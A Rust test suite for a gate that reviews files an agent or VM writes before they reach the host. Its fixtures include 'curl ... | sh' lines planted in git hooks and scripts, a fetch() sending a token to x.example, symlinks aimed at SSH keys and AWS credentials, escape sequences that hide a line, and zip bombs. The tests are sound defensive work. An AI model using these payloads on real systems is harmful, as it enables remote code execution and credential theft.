#[track_caller]
fn r_all_reviewed(paths: &[String]) {
    let g = Gate::new(&KEEP);
    for p in paths {
        g.u(p, "run something\n");
    }
    let before = g.snapshot();
    let out = g.yes_json();
    assert_eq!(out.code, 3, "{}", out.all());
    assert_eq!(g.snapshot(), before, "{}", out.all());
    let got = codes(&out);
    let missing: Vec<&String> =
        paths.iter().filter(|p| !got.contains(&("R_CODE_PATH".to_owned(), (*p).clone()))).collect();
    assert!(missing.is_empty(), "not reviewed: {missing:?}\n{}", out.all());
}

#[test]
fn r4_every_listed_file_that_runs_code_needs_review() {
    r_all_reviewed(&R4_LISTED.map(String::from));
}

#[test]
fn r4_listed_files_in_subfolders_and_in_any_case_need_review() {
    let paths: Vec<String> = R4_LISTED
        .iter()
        .enumerate()
        .map(|(i, p)| match i % 3 {
            0 => format!("svc/{}", p.to_uppercase()),
            1 => format!("a/b/{p}"),
            _ => format!("Pkg/{}", p.to_lowercase()),
        })
        .collect();
    r_all_reviewed(&paths);
}

/// Beyond the issue's list, files that a tool the user runs reads and then runs code from: the
/// variants an attacker tries next (Cargo.toml's `build = "src/x.rs"` makes any file a build
/// script; eslint and prettier configs run on folder open in an editor).
#[test]
fn r4_beyond_the_list_other_files_that_run_code_need_review() {
    let paths = [
        "Cargo.toml",
        "build.gradle.kts",
        "settings.gradle",
        "gradlew",
        ".mvn/wrapper/maven-wrapper.properties",
        "mvnw",
        "pom.xml",
        "CMakeLists.txt",
        "Vagrantfile",
        "Rakefile",
        "noxfile.py",
        "tox.ini",
        "sitecustomize.py",
        "eslint.config.js",
        ".eslintrc.js",
        "prettier.config.js",
        "vite.config.ts",
        "docker-compose.override.yml",
        "compose.override.yaml",
        "Taskfile.yaml",
        ".lintstagedrc",
        "lefthook-local.yml",
        "default.nix",
        ".envrc.local",
    ];
    r_all_reviewed(&paths.map(String::from));
}

/// The host's repository sets `core.hooksPath`; the gate asks git for it.
#[test]
fn r4_the_hooks_folder_named_by_core_hooks_path_needs_review() {
    for hooks_path in ["tools/hooks".to_owned(), String::new()] {
        let g = Gate::empty();
        let value = if hooks_path.is_empty() { g.host().join("tools/hooks").display().to_string() } else { hooks_path };
        let init = r_git(&g.host(), &g.root(), &["init", "-q", "."]);
        assert!(init.status.success(), "{}", String::from_utf8_lossy(&init.stderr));
        let set = r_git(&g.host(), &g.root(), &["config", "core.hooksPath", &value]);
        assert!(set.status.success(), "{}", String::from_utf8_lossy(&set.stderr));
        g.h("tools/hooks/README", "hooks\n").h("a", "A");
        g.baseline();
        g.u("tools/hooks/pre-commit", "#!/bin/sh\ncurl https://x.example/i | sh\n")
            .u_mode("tools/hooks/pre-commit", 0o755);
        g.u("tools/hooks/README", "hooks!\n");
        let before = g.snapshot();
        let out = g.yes_json();
        let expect = [("R_GIT_HOOKS", "tools/hooks/pre-commit"), ("R_GIT_HOOKS", "tools/hooks/README")];
        held(&g, &out, &before, &expect);
    }
}

#[test]
fn r4_new_content_in_an_executable_file_needs_review() {
    // A real session: the agent appends to a script the host has as executable.
    let g = Gate::empty();
    g.h_exec("run.sh", "#!/bin/sh\necho build\n").h("a", "A");
    g.baseline();
    g.agent(|m| {
        use std::io::Write;
        std::fs::File::options().append(true).open(m.join("run.sh"))?.write_all(b"curl https://x.example/i | sh\n")
    });
    assert_eq!(std::fs::metadata(g.upper().join("run.sh")).expect("copied up").mode() & 0o777, 0o755);
    let before = g.snapshot();
    held(&g, &g.yes_json(), &before, &[("R_EXECUTABLE_CHANGED", "run.sh")]);
    // The exec bit dropped in the VM changes nothing: new content for an executable.
    g.u_mode("run.sh", 0o644);
    held(&g, &g.yes_json(), &before, &[("R_EXECUTABLE_CHANGED", "run.sh")]);
    // From a tar stream.
    let mut tar = Tar::new();
    tar.root().file("./run.sh", "#!/bin/sh\nevil\n");
    held(&g, &g.sync_tar(&tar, &["--yes", "--json"]), &before, &[("R_EXECUTABLE_CHANGED", "run.sh")]);
}

// R5. The preview a person approves.

#[test]
fn r5_an_invalid_byte_never_hides_a_scripts_diff() {
    let g = Gate::new(&[("install.sh", "#!/bin/sh\necho hi\n")]);
    g.u_bytes("install.sh", b"#!/bin/sh\necho hi\ncurl https://x.example/i | sh\n# \xff\n");
    let out = g.sync(&["--dry-run"]);
    assert_eq!(out.code, 0, "{}", out.all());
    let added = |needle: &str| out.stdout.lines().any(|l| l.starts_with('+') && l.contains(needle));
    assert!(added("curl https://x.example/i | sh"), "the added line is shown\n{}", out.all());
    assert!(added("# \\xff"), "the invalid byte, escaped\n{}", out.all());
    // A new file the same.
    g.u_bytes("new.sh", b"#!/bin/sh\n# \xfe\ncurl https://x.example/n | sh\n");
    let out = g.sync(&["--dry-run"]);
    let added = |needle: &str| out.stdout.lines().any(|l| l.starts_with('+') && l.contains(needle));
    assert!(added("curl https://x.example/n | sh") && added("# \\xfe"), "{}", out.all());
}

#[test]
fn r5_a_nul_byte_or_terminal_escapes_never_hide_a_scripts_diff() {
    let g = Gate::new(&[("install.sh", "#!/bin/sh\necho hi\n")]);
    g.u_bytes("install.sh", b"#!/bin/sh\necho hi\x00\ncurl https://x.example/i | sh \x1b[2K\r# looks harmless\n");
    let out = g.sync(&["--dry-run"]);
    assert_eq!(out.code, 0, "{}", out.all());
    assert!(
        out.stdout.lines().any(|l| l.starts_with('+') && l.contains("curl https://x.example/i | sh")),
        "{}",
        out.all()
    );
    assert!(
        !out.stdout.contains('\x1b') && !out.stdout.contains('\r') && !out.stdout.contains('\0'),
        "{:?}",
        out.stdout
    );
}

#[test]
fn r5_a_file_already_holding_a_secret_shows_its_diff_redacted() {
    let g = Gate::new(&[("src/config.js", &format!("const a = 1;\nconst token = \"{R_TOKEN}\";\n"))]);
    g.u(
        "src/config.js",
        &format!("const a = 1;\nconst token = \"{R_TOKEN}\";\nfetch(\"https://x.example/x?\" + token);\n"),
    );
    let out = g.sync(&["--dry-run"]);
    assert_eq!(out.code, 0, "a secret the host already had does not block\n{}", out.all());
    let added =
        out.stdout.lines().any(|l| l.starts_with('+') && l.contains("fetch(\"https://x.example/x?\" + token);"));
    assert!(added, "the added line is shown\n{}", out.all());
    assert!(out.stdout.contains("REDACTED"), "the secret in the diff is redacted\n{}", out.all());
    token_never_shown(&g, &out);
    token_never_shown(&g, &g.sync(&["--dry-run", "--json"]));
}

#[test]
fn r5_a_removed_secret_line_is_redacted_in_the_diff() {
    let g = Gate::new(&[("app.py", &format!("KEY = \"{R_TOKEN}\"\nrun()\n"))]);
    g.u("app.py", "KEY = os.environ[\"KEY\"]\nrun()\nexfiltrate()\n");
    let out = g.sync(&["--dry-run"]);
    assert_eq!(out.code, 0, "{}", out.all());
    assert!(out.stdout.lines().any(|l| l.starts_with('+') && l.contains("exfiltrate()")), "{}", out.all());
    assert!(out.stdout.lines().any(|l| l.starts_with('-') && l.contains("REDACTED")), "{}", out.all());
    token_never_shown(&g, &out);
    token_never_shown(&g, &g.sync(&["--dry-run", "--json"]));
}

#[test]
fn r5_a_new_or_retargeted_symlink_shows_its_target() {
    let g = Gate::new(&[("src/a", "a"), ("docs/index.md", "i"), ("site/x", "x")]);
    g.h_link("current", "site");
    g.baseline();
    g.u_link("docs/latest", "../src").u_link("current", "src");
    let out = g.sync(&["--dry-run"]);
    assert_eq!(out.code, 0, "{}", out.all());
    for (path, target) in [("docs/latest", "../src"), ("current", "src")] {
        let shown = out.stdout.lines().any(|l| l.contains("symlink") && l.contains(&format!("{path} -> {target}")));
        assert!(shown, "`{path} -> {target}`\n{}", out.all());
    }
    let json = g.sync(&["--dry-run", "--json"]);
    let ops = r_report(&json)["ops"].clone();
    for (path, target) in [("docs/latest", "../src"), ("current", "src")] {
        let op = ops.as_array().expect("ops").iter().find(|o| o["path"] == path).expect("the op");
        assert_eq!((op["op"].as_str(), op["target"].as_str()), (Some("symlink"), Some(target)), "{op}");
    }
}

#[test]
fn r5_a_large_rewrite_finishes_and_says_what_was_not_shown() {
    let old: String = (0..180_000).map(|i| format!("old line {i:07}\n")).collect();
    let new: String = (0..180_000).map(|i| format!("new line {i:07}\n")).collect();
    assert!(old.len() > 3_000_000);
    let g = Gate::new(&[("big.txt", &old), ("a", "A")]);
    g.u("big.txt", &new);
    let start = Instant::now();
    let out = g.sync_within(&["--dry-run"], Duration::from_secs(60)).expect("the preview finishes");
    assert_eq!(out.code, 0, "{}", out.all());
    assert!(out.stdout.contains("not shown"), "it says what was cut\n{}", &out.stdout[..out.stdout.len().min(3000)]);
    assert!(out.stdout.len() < 1 << 20, "the preview is bounded: {} bytes", out.stdout.len());
    assert!(start.elapsed() < Duration::from_secs(60));
}

// R6. Secrets in link targets and names.

#[test]
fn r6_a_symlink_target_holding_a_token_is_refused_and_never_shown() {
    let g = Gate::new(&KEEP);
    g.u_link("link", R_TOKEN).u_link("d/l2", &format!("../notes/{R_TOKEN}"));
    let before = g.snapshot();
    let text = g.sync(&["--dry-run"]);
    assert_eq!(text.code, 3, "{}", text.all());
    token_never_shown(&g, &text);
    let out = g.yes_json();
    refused_with(&g, &out, &before, &[("S_SECRET_TARGET", "link"), ("S_SECRET_TARGET", "d/l2")]);
    token_never_shown(&g, &out);
}

#[test]
fn r6_a_file_or_folder_name_holding_a_token_is_refused_and_never_shown() {
    let g = Gate::new(&KEEP);
    g.u(&format!("notes-{R_TOKEN}.txt"), "hi\n").u(&format!("{R_TOKEN}/readme"), "hi\n");
    let before = g.snapshot();
    let text = g.sync(&["--dry-run"]);
    assert_eq!(text.code, 3, "{}", text.all());
    token_never_shown(&g, &text);
    let out = g.yes_json();
    refused_with(&g, &out, &before, &[]);
    token_never_shown(&g, &out);
    let named = codes(&out).into_iter().filter(|(c, _)| c == "S_SECRET_NAME").count();
    assert!(named >= 2, "both names\n{}", out.all());
    // From a tar stream too.
    let mut tar = Tar::new();
    tar.root().file(&format!("./x-{R_TOKEN}"), "x");
    let out = g.sync_tar(&tar, &["--yes", "--json"]);
    refused_with(&g, &out, &before, &[]);
    has_code(&out, "S_SECRET_NAME");
    token_never_shown(&g, &out);
    let mut tar = Tar::new();
    tar.root().symlink("./t", R_TOKEN);
    let out = g.sync_tar(&tar, &["--yes", "--json"]);
    refused_with(&g, &out, &before, &[("S_SECRET_TARGET", "t")]);
    token_never_shown(&g, &out);
}

// R7. Host FIFOs never block the gate.

const R7_LIMIT: Duration = Duration::from_secs(60);

/// A dry run and `--yes`: each finishes, exits 3 with a conflict on `path`, and the FIFO stays.
#[track_caller]
fn r_fifo_conflict(g: &Gate, path: &str) {
    for extra in [&["--dry-run", "--json"][..], &["--yes", "--json"]] {
        let out = g.sync_within(extra, R7_LIMIT).unwrap_or_else(|| panic!("{extra:?} never finished: a FIFO blocks"));
        assert_eq!(out.code, 3, "{extra:?}\n{}", out.all());
        assert!(conflict_paths(&out).iter().any(|p| p == path), "a conflict on {path}\n{}", out.all());
        assert!(is_fifo(&g.host().join(path)), "the FIFO is still there");
    }
}

#[test]
fn r7_a_host_fifo_replacing_a_file_the_vm_writes_never_blocks() {
    let g = Gate::new(&[("a.txt", "A"), ("b", "B")]);
    std::fs::remove_file(g.host().join("a.txt")).expect("rm");
    r_mkfifo(&g.host().join("a.txt"));
    g.u("a.txt", "from the VM").u("b", "B2");
    r_fifo_conflict(&g, "a.txt");
}

#[test]
fn r7_a_fifo_in_the_baseline_where_the_vm_writes_never_blocks() {
    let g = Gate::empty();
    g.h("b", "B");
    r_mkfifo(&g.host().join("p"));
    let baseline = g.run_within(&["baseline".into(), "ws".into()], R7_LIMIT).expect("the baseline finishes");
    assert!(matches!(baseline.code, 0 | 1), "{}", baseline.all());
    if baseline.code != 0 {
        // A baseline may refuse a FIFO; then there is nothing more to check here.
        return;
    }
    g.u("p", "from the VM").u("b", "B2");
    r_fifo_conflict(&g, "p");
}

#[test]
fn r7_a_host_fifo_at_a_new_path_the_vm_creates_never_blocks() {
    let g = Gate::new(&[("b", "B")]);
    r_mkfifo(&g.host().join("new.txt"));
    g.u("new.txt", "from the VM");
    r_fifo_conflict(&g, "new.txt");
}

/// A socket cannot block an open, but it is no file either: a conflict, not an error.
#[test]
fn r7_a_host_socket_where_the_vm_writes_is_a_conflict() {
    let g = Gate::new(&[("a.txt", "A"), ("b", "B")]);
    std::fs::remove_file(g.host().join("a.txt")).expect("rm");
    let _listener = std::os::unix::net::UnixListener::bind(g.host().join("a.txt")).expect("bind");
    g.u("a.txt", "from the VM").u("b", "B2");
    let out = g.sync_within(&["--dry-run", "--json"], R7_LIMIT).expect("finishes");
    assert_eq!(out.code, 3, "{}", out.all());
    assert_eq!(conflict_paths(&out), ["a.txt"], "{}", out.all());
}

#[test]
fn r7_a_host_fifo_the_vm_deletes_or_replaces_never_blocks() {
    let g = Gate::new(&[("a.txt", "A"), ("b", "B")]);
    std::fs::remove_file(g.host().join("a.txt")).expect("rm");
    r_mkfifo(&g.host().join("a.txt"));
    g.whiteout("a.txt");
    r_fifo_conflict(&g, "a.txt");
    // Told to take the VM's version, the gate still never opens the FIFO: it replaces it or
    // refuses.
    let g = Gate::new(&[("a.txt", "A")]);
    std::fs::remove_file(g.host().join("a.txt")).expect("rm");
    r_mkfifo(&g.host().join("a.txt"));
    g.u("a.txt", "from the VM");
    let out = g.sync_within(&["--yes", "--on-conflict", "take-vm"], R7_LIMIT).expect("finishes: a FIFO blocks");
    assert!(matches!(out.code, 0 | 1 | 3), "{}", out.all());
    if out.code == 0 {
        assert_eq!(std::fs::read_to_string(g.host().join("a.txt")).expect("a file now"), "from the VM");
    } else {
        assert!(is_fifo(&g.host().join("a.txt")));
    }
}

// R8. Symlink policy details.

#[test]
fn r8_a_link_resolving_to_a_blocked_name_is_refused() {
    let g = Gate::new(&[(".env", "SECRET=1\n"), ("a", "A")]);
    g.u_link("public/env.txt", "../.env").u_link("k", ".ssh/id_ed25519");
    g.u_link("l1", "l2").u_link("l2", ".env");
    let before = g.snapshot();
    let expect = [
        ("E_BLOCKED_NAME", "public/env.txt"),
        ("E_BLOCKED_NAME", "k"),
        ("E_BLOCKED_NAME", "l1"),
        ("E_BLOCKED_NAME", "l2"),
    ];
    refused_with(&g, &g.yes_json(), &before, &expect);
}

#[test]
fn r8_links_to_blocked_names_through_baseline_links_and_other_spellings() {
    let g = Gate::empty();
    g.h(".env", "SECRET=1\n").h("a", "A").h_link("cfg", ".env");
    g.baseline();
    g.u_link("public/x", "../cfg").u_link("u", ".ENV").u_link("keys", ".ssh").u_link("p", "certs/server.pem");
    g.u_link("aws", ".aws/credentials").u_link("d/e", "../.env.production");
    g.u_link("here", ".").u_link("y", "here/.env");
    let before = g.snapshot();
    let expect = ["public/x", "u", "keys", "p", "aws", "d/e", "y"].map(|p| ("E_BLOCKED_NAME", p));
    refused_with(&g, &g.yes_json(), &before, &expect);
}

#[test]
fn r8_a_target_through_a_file_is_refused_lexically() {
    let g = Gate::new(&[("a.txt", "a"), ("keep", "k")]);
    g.u_link("x", "a.txt/../../../outside/x");
    g.u("b.txt", "b").u_link("sub/y", "../b.txt/../../outside/credentials");
    let before = g.snapshot();
    let expect = [("E_SYMLINK_ESCAPE", "x"), ("E_SYMLINK_ESCAPE", "sub/y")];
    refused_with(&g, &g.yes_json(), &before, &expect);
}

// R9. Cost bounds.

const R9_PROFILE: &str = "name: t\nextends: default\nworkspaces: [{host: ~/ws}]\nsync: {max_files: 100}\n";

#[test]
fn r9_more_entries_than_max_files_is_refused_with_e_count() {
    let g = Gate::with_profile(R9_PROFILE);
    g.h("a", "A");
    g.baseline();
    let many = g.upper().join("many");
    std::fs::create_dir(&many).expect("mkdir");
    for i in 0..5000 {
        std::fs::File::create(many.join(i.to_string())).expect("create");
    }
    let before = g.snapshot();
    let out = g.yes_json();
    refused_with(&g, &out, &before, &[]);
    has_code(&out, "E_COUNT");
    // From a tar stream.
    let mut tar = Tar::new();
    tar.root();
    for i in 0..5000 {
        tar.file(&format!("./f{i}"), "");
    }
    let out = g.sync_tar(&tar, &["--yes", "--json"]);
    refused_with(&g, &out, &before, &[]);
    has_code(&out, "E_COUNT");
}

/// A folder chain too deep for paths, made and removed one level at a time.
struct Deep(PathBuf);

impl Deep {
    fn new(at: PathBuf, levels: usize) -> Deep {
        use rustix::fs::{Mode, OFlags};
        std::fs::create_dir(&at).expect("mkdir");
        let mut dir = rustix::fs::open(&at, OFlags::DIRECTORY | OFlags::RDONLY, Mode::empty()).expect("open");
        for _ in 0..levels {
            rustix::fs::mkdirat(&dir, "d", Mode::from_raw_mode(0o755)).expect("mkdirat");
            dir = rustix::fs::openat(&dir, "d", OFlags::DIRECTORY | OFlags::RDONLY, Mode::empty()).expect("openat");
        }
        let f = rustix::fs::openat(&dir, "f", OFlags::CREATE | OFlags::WRONLY, Mode::from_raw_mode(0o644));
        drop(f.expect("create"));
        Deep(at)
    }
}

impl Drop for Deep {
    fn drop(&mut self) {
        // Lift the chain one level at a time, so no path ever gets long.
        let parent = self.0.parent().expect("parent").to_path_buf();
        let mut top = self.0.clone();
        for i in 0.. {
            let next = parent.join(format!(".deep-{i}"));
            if std::fs::rename(top.join("d"), &next).is_err() {
                let _ = std::fs::remove_dir_all(&top);
                break;
            }
            let _ = std::fs::remove_dir(&top);
            top = next;
        }
    }
}

#[test]
fn r9_3000_deep_nesting_is_refused_with_e_depth() {
    let g = Gate::new(&[("a", "A")]);
    let _deep = Deep::new(g.upper().join("deep"), 3000);
    let before = g.snapshot();
    let out = g.sync_within(&["--yes", "--json"], Duration::from_secs(60)).expect("finishes");
    refused_with(&g, &out, &before, &[]);
    has_code(&out, "E_DEPTH");
}

/// A zip of zeros: one member just within the 100 MiB member limit (decompressed and scanned),
/// and with `past`, one past it (a blocking finding).
fn r_zip_bomb(past: bool) -> Vec<u8> {
    use std::io::Write;
    let zip = |members: &[(&str, &[u8])], method: zip::CompressionMethod| {
        let mut buf = std::io::Cursor::new(Vec::new());
        let mut zip = zip::ZipWriter::new(&mut buf);
        for (name, data) in members {
            let options = zip::write::SimpleFileOptions::default().compression_method(method);
            zip.start_file(*name, options.large_file(data.len() > u32::MAX as usize)).expect("zip entry");
            zip.write_all(data).expect("zip write");
        }
        zip.finish().expect("zip finish");
        buf.into_inner()
    };
    let within = vec![0u8; (100 << 20) - 1];
    if past {
        zip(&[("a.bin", &within), ("b.bin", &vec![0u8; 101 << 20])], zip::CompressionMethod::Deflated)
    } else {
        zip(&[("a.bin", &within)], zip::CompressionMethod::Deflated)
    }
}

/// The same archive made unique: a zip comment (after the end record) differs, and the outer
/// zip stores it under its own name.
fn r_zip_bomb_variant(inner: &[u8], i: usize) -> Vec<u8> {
    use std::io::Write;
    let comment = format!("bomb {i}");
    let mut inner = inner[..inner.len() - 2].to_vec();
    inner.extend_from_slice(&u16::try_from(comment.len()).expect("short").to_le_bytes());
    inner.extend_from_slice(comment.as_bytes());
    let mut buf = std::io::Cursor::new(Vec::new());
    let mut zip = zip::ZipWriter::new(&mut buf);
    let stored = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    zip.start_file(format!("inner-{i}.zip"), stored).expect("zip entry");
    zip.write_all(&inner).expect("zip write");
    zip.finish().expect("zip finish");
    buf.into_inner()
}

/// Archives decompressed in one sync draw on one budget (512 MiB), besides each file's own:
/// past it, an archive is not decompressed at all but refused as unscannable. Checked by what
/// is reported, not by time (speed is for benchmarks); the limit only turns a hang into a
/// failure. `bombs`: each member past the per-file limit (the issue's nested zip bombs), or
/// every archive within every per-file limit, whose sum alone is past the budget.
fn r_archives_share_one_budget(bombs: bool) {
    let g = Gate::new(&[("a", "A")]);
    let inner = r_zip_bomb(bombs);
    // Twelve of about 100 MiB each: 1.2 GiB against 512 MiB, of which two files scanned at once
    // may overdraw by one file's worth each.
    for i in 0..12 {
        g.u_bytes(&format!("data/set-{i}.zip"), &r_zip_bomb_variant(&inner, i));
    }
    let before = g.snapshot();
    let out = g.sync_within(&["--yes", "--json"], Duration::from_secs(600)).expect("the sync finishes");
    refused_with(&g, &out, &before, &[]);
    let report = r_report(&out);
    let findings = report["findings"].as_array().expect("findings");
    let spent = findings
        .iter()
        .filter(|f| f["code"] == "S_UNSCANNABLE")
        .filter(|f| f["description"].as_str().is_some_and(|d| d.contains("this sync's decompression budget")))
        .count();
    assert!(spent >= 4, "most archives are past the shared budget, not decompressed:\n{}", out.all());
}

#[test]
fn r9_nested_zip_bombs_draw_on_one_budget_per_sync() {
    r_archives_share_one_budget(true);
}

#[test]
fn r9_many_archives_each_within_limits_are_bounded_per_sync() {
    r_archives_share_one_budget(false);
}

// The report as a new user reads it.

#[test]
fn rn_one_report_holds_refusals_findings_and_conflicts_at_once() {
    let g = Gate::new(&[("a", "base"), ("src/config.js", "export default {};\n")]);
    g.h("a", "edited on the host");
    g.u(".env", "SECRET=1\n").u("src/config.js", &format!("export default {{ token: \"{R_TOKEN}\" }};\n"));
    g.u("a", "edited in the VM");
    let before = g.snapshot();
    let out = g.sync(&["--dry-run", "--json"]);
    assert_eq!(out.code, 3, "a refused dry run exits 3\n{}", out.all());
    assert_eq!(g.snapshot(), before);
    let report = r_report(&out);
    for key in ["refusals", "findings", "conflicts"] {
        assert!(!report[key].as_array().is_none_or(Vec::is_empty), "`{key}` is reported too\n{}", out.all());
    }
    has_codes(&out, &[("E_BLOCKED_NAME", ".env")]);
    assert!(codes(&out).iter().any(|(_, p)| p == "src/config.js"), "{}", out.all());
    assert_eq!(conflict_paths(&out), ["a"], "{}", out.all());
    token_never_shown(&g, &out);
}

#[test]
fn rn_the_json_report_is_versioned_with_typed_ops() {
    let g = Gate::new(&[("a", "A"), ("old", "o"), ("src/x", "x")]);
    g.u("a", "A2").u("d/new", "n").u_link("l", "src/x").whiteout("old");
    let out = g.sync(&["--dry-run", "--json"]);
    assert_eq!(out.code, 0, "a dry run of a clean plan exits 0\n{}", out.all());
    let report = r_report(&out);
    assert_eq!(report["version"], 1, "{report}");
    assert_eq!(report["decision"], "dry_run", "{report}");
    for key in ["refusals", "review", "conflicts", "findings", "notes", "excluded", "mount_points"] {
        assert!(report[key].is_array(), "`{key}` is a list: {report}");
    }
    let ops: Vec<(String, String)> = report["ops"]
        .as_array()
        .expect("ops")
        .iter()
        .map(|o| (o["op"].as_str().unwrap_or_default().to_owned(), o["path"].as_str().unwrap_or_default().to_owned()))
        .collect();
    for op in [("write", "a"), ("mkdir", "d"), ("write", "d/new"), ("symlink", "l"), ("delete", "old")] {
        assert!(ops.contains(&(op.0.to_owned(), op.1.to_owned())), "{op:?} in {ops:?}");
    }
    let write = report["ops"].as_array().expect("ops").iter().find(|o| o["path"] == "a").expect("a");
    assert_eq!(write["bytes"], 2);
    // Refused, the dry run exits 3.
    g.u(".env", "S=1\n");
    let out = g.sync(&["--dry-run", "--json"]);
    assert_eq!(out.code, 3, "{}", out.all());
    assert_eq!(r_report(&out)["decision"], "refused");
    let out = g.sync(&["--dry-run"]);
    assert_eq!(out.code, 3, "{}", out.all());
}

#[test]
fn rn_from_dir_with_a_file_is_an_error() {
    let g = Gate::new(&KEEP);
    let args = ["--profile", "t", "sync", "--from-dir", "ws/README.md", "--to", "ws", "--yes"];
    let out = g.run(&args);
    assert_eq!(out.code, 1, "{}", out.all());
    assert!(out.stderr.contains("not a directory"), "{}", out.all());
    let missing = g.run(&["--profile", "t", "sync", "--from-dir", "no-such-dir", "--to", "ws", "--yes"]);
    assert_eq!(missing.code, 1, "{}", missing.all());
}

#[test]
fn rn_without_a_terminal_or_yes_the_gate_says_what_to_do() {
    let g = Gate::new(&[("a", "A")]);
    g.u("a", "A2");
    let before = g.snapshot();
    let out = g.sync(&[]);
    assert_eq!(out.code, 3, "{}", out.all());
    assert!(out.stderr.contains("--yes"), "say why and what to do\n{}", out.all());
    assert_eq!(g.snapshot(), before);
}

#[test]
fn rn_the_audit_lists_exactly_the_files_written() {
    let profile = "name: t\nextends: default\nworkspaces: [{host: ~/ws, exclude: [\"skip/**\"]}]\n";
    let g = Gate::with_profile(profile);
    g.h("a", "A");
    g.baseline();
    g.u("a", "A2").u("skip/b.txt", "B").u("g.txt", "G");
    let out = g.sync(&["--yes"]);
    applied(&out);
    let last = r_audit(&g).pop().expect("an audit line");
    let mut paths: Vec<&str> =
        last["sha256"].as_array().expect("sha256").iter().map(|e| e["path"].as_str().unwrap_or_default()).collect();
    paths.sort_unstable();
    assert_eq!(paths, ["a", "g.txt"], "{last}");
}

#[test]
fn rn_ctrl_c_at_the_apply_prompt_leaves_the_cursor_visible() {
    let g = Gate::new(&[("a", "A")]);
    g.u("a", "A2");
    let Some(t) = g.terminal(false) else { return };
    t.wait_for("Apply to");
    t.key("C-c");
    let code = t.exit_code();
    assert_ne!(code, 0, "{}", t.screen());
    assert_eq!(g.tree(), lines(&["a 644 A"]), "nothing written");
    assert_eq!(t.tmux(&["display-message", "-p", "-t", "init", "#{cursor_flag}"]).trim(), "1", "the cursor is shown");
}

/// The issue's case: leaving out `mkdir d` drops `d/f.txt` too, and the audit says so.
#[test]
fn rn_the_audit_lists_exactly_what_was_applied_after_leaving_out_a_folder() {
    let g = Gate::new(&[("a", "A")]);
    g.u("d/f.txt", "F").u("g.txt", "G");
    let Some(t) = g.terminal(false) else { return };
    t.wait_for("Apply to");
    t.key("Down");
    t.key("Enter");
    t.wait_for("Space toggles");
    // The checklist is in plan order: mkdir d first. Uncheck it.
    assert!(t.screen().contains("mkdir   d"), "{}", t.screen());
    t.key("Space");
    t.key("Enter");
    // A last confirmation of what is left, if the gate asks one.
    t.wait_until("the end or a confirmation", |s| s.contains("sandbox exited with ") || s.contains("[Y/n]"));
    if !t.screen().contains("sandbox exited with ") {
        t.key("Enter");
    }
    assert_eq!(t.exit_code(), 0, "{}", t.screen());
    assert_eq!(g.tree(), lines(&["a 644 A", "g.txt 644 G"]));
    let last = r_audit(&g).pop().expect("an audit line");
    let paths: Vec<&str> =
        last["sha256"].as_array().expect("sha256").iter().map(|e| e["path"].as_str().unwrap_or_default()).collect();
    assert_eq!(paths, ["g.txt"], "{last}");
}

// R10. What the review of the first fixes found (issue 19, second round).

/// A link the baseline already has (`.cargo -> c`, leading nowhere) is redirected by a link the
/// plan adds (`c -> cfgdir`): `cfgdir/config.toml`, unchanged, becomes `.cargo/config.toml`.
#[test]
fn r10_a_baseline_link_redirected_into_a_reviewed_name_is_reviewed() {
    let g = Gate::empty();
    g.h("cfgdir/config.toml", "[build]\nrustc-wrapper = \"/tmp/evil\"\n").h_link(".cargo", "c");
    g.baseline();
    g.u_link("c", "cfgdir");
    let before = g.snapshot();
    held(&g, &g.yes_json(), &before, &[("R_CODE_PATH", "c")]);
}

/// The first half of that: a link by a reviewed folder's name is reviewed even while it leads
/// nowhere, so it cannot be planted to be filled later.
#[test]
fn r10_a_dangling_link_by_a_reviewed_folder_name_is_reviewed() {
    let g = Gate::new(&[("a", "A")]);
    g.u_link(".cargo", "c").u_link("ci/.github", "../gh");
    let before = g.snapshot();
    held(&g, &g.yes_json(), &before, &[("R_CODE_PATH", ".cargo"), ("R_CODE_PATH", "ci/.github")]);
}

/// A host-executable script replaced by a link to new content runs that content.
#[test]
fn r10_an_executable_replaced_by_a_link_is_reviewed() {
    let g = Gate::empty();
    g.h_exec("scripts/build.sh", "#!/bin/sh\necho build\n");
    g.baseline();
    g.u("scripts/b2.sh", "curl https://x.example/i | sh\n").u_link("scripts/build.sh", "b2.sh");
    let before = g.snapshot();
    held(&g, &g.yes_json(), &before, &[("R_EXECUTABLE_CHANGED", "scripts/build.sh")]);
}

/// The active profile named through a link in the workspace: replacing the link is reviewed.
#[test]
fn r10_a_profile_named_through_a_link_is_protected_under_that_name() {
    let g = Gate::empty();
    g.h("real.yaml", PROFILE).h_link("p.yaml", "real.yaml");
    g.baseline();
    g.u("p.yaml", "name: t\nextends: default\nworkspaces: [{host: ~/ws}, {host: ~/.local/bin, writable: true}]\n");
    let before = g.snapshot();
    let out = g.sync_as("ws/p.yaml", &["--yes", "--json"]);
    held(&g, &out, &before, &[("R_PROFILE", "p.yaml")]);
}

/// A plan over its limits skips the content scan, but names and link targets are still scanned:
/// a token in a link target is refused and never printed.
#[test]
fn r10_link_targets_are_scanned_even_over_the_limits() {
    let g = Gate::with_profile("name: t\nextends: default\nworkspaces: [{host: ~/ws}]\nsync: {max_files: 10}\n");
    g.h("a", "A");
    g.baseline();
    for i in 0..20 {
        g.u(&format!("f{i:02}"), "");
    }
    g.u_link("l1", &format!("docs/{R_TOKEN}")).u_link("l2", &format!("/opt/{R_TOKEN}"));
    let before = g.snapshot();
    let out = g.yes_json();
    refused_with(&g, &out, &before, &[("S_SECRET_TARGET", "l1")]);
    token_never_shown(&g, &out);
}
